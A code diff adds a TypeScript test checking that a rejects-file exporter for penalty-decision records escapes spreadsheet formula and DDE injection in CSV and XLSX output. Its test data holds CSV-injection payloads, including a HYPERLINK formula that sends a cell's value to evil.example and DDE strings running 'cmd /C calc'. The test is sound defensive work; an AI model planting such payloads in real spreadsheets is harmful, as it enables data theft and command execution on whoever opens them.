@@ -1,3 +1,6 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { RowReason } from '../submission/rowProblem';
@@ -5,6 +8,7 @@ import { csvRecords } from './csv';
 import { csvRow, mapHeaders } from './headers';
 import { lineReason, rejectReason } from './rejectReasons';
 import { rejectsWriter, type RejectedRow } from './rejectsFile';
+import { tableRows } from './sourceFile';
 
 async function written(format: 'csv' | 'xlsx' | 'jsonl', header: string[] | null, rows: RejectedRow[]) {
   const out = new PassThrough();
@@ -103,4 +107,60 @@ describe('rejects files', () => {
     });
     expect(b).toMatchObject({ 行号: 3, 原因代码: 'line:NOT_JSON_OBJECT', 原文: 'not json' });
   });
+
+  // Every way a cell starts a formula or a DDE payload in Excel and WPS.
+  const DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?"&A1;"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  const FORMULA_HEADER = [
+    '行政处罚决定书文号',
+    '违法事实',
+    '处罚依据',
+    '处罚内容',
+    '备注',
+    '处罚机关',
+    '暂扣或吊销证照名称及编号',
+  ];
+  const formulaRow: RejectedRow = {
+    line: 2,
+    values: ['黔市监罚〔2025〕9号', ...DANGEROUS],
+    reasons: [lineReason('FIELD_COUNT', '本行有 7 列')],
+  };
+
+  it.each(['csv', 'xlsx'] as const)(
+    '%s: no cell starts a formula (=, +, -, @, tab, CR), and sent back the file gives the original values',
+    async (format) => {
+      const bytes = await written(format, FORMULA_HEADER, [formulaRow]);
+      const file = join(mkdtempSync(join(tmpdir(), 'rejects-formulas-')), `rejects.${format}`);
+      writeFileSync(file, bytes);
+      const rows: string[][] = [];
+      for await (const r of tableRows(file, format, 'utf8')) rows.push(r.values);
+      const cells = rows[1].slice(3);
+      // XML has no bare CR: a workbook cell reads it back as LF (still escaped).
+      const expected = DANGEROUS.map((v) => `'${format === 'xlsx' ? v.replace(/\r/g, '\n') : v}`);
+      expect(cells.slice(1)).toEqual(expected);
+      for (const c of rows.flat()) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+      if (format === 'xlsx') {
+        const wb = new ExcelJS.Workbook();
+        await wb.xlsx.load(bytes as never);
+        wb.worksheets[0].getRow(2).eachCell((cell) => expect(cell.formula).toBeUndefined());
+      }
+      const header = mapHeaders(rows[0]);
+      expect(csvRow(header, rows[1])).toEqual(csvRow(mapHeaders(FORMULA_HEADER), formulaRow.values));
+      // The unescaped values are the originals (trimmed, as every cell is read).
+      expect(csvRow(header, rows[1])).toMatchObject({
+        facts: DANGEROUS[0],
+        legalBasis: DANGEROUS[1],
+        penaltyContent: DANGEROUS[2],
+        remarks: DANGEROUS[3],
+        decidingAuthority: '=1+1',
+        licenceDetail: '=1+1',
+      });
+    },
+  );
 });
